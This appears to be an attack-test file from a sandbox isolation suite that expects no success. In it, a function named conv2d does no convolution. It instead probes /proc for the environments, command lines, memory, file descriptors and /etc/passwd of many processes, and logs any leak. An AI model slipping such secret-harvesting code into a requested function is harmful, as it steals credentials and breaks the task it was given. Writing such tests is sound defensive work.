# attack: k26_proc_1
# class: secrets
# exercise: conv2d
# tries: read /proc/1, /proc/self, /proc/PID of everybody: environment, command line, memory, root, descriptors
# expect: zero
# bounds: none
def _leak(tag, text):  # how this file shows success: what it prints, and a mark that the tests look for
    import os
    try:
        print("DLX-LEAK", tag, text, flush=True)
    except BaseException:
        pass
    try:
        os.makedirs("/tmp/dlx_attack_marks", exist_ok=True)
        with open("/tmp/dlx_attack_marks/" + tag, "a") as file:
            file.write(str(text)[:300])
    except BaseException:
        pass

def conv2d(image, kernel, stride=1, padding=0):
    import os

    for pid in ("1", "self", "thread-self", str(os.getppid()), *map(str, range(2, 400))):
        for name in ("environ", "cmdline", "maps", "mem", "root/etc/passwd", "fd", "cwd/.", "status"):
            path = f"/proc/{pid}/{name}"
            try:
                entries = os.listdir(path) if name == "fd" else open(path, "rb").read(64)
                _leak("k26_proc", f"{path} {entries}")
                return None
            except OSError:
                pass
    return None
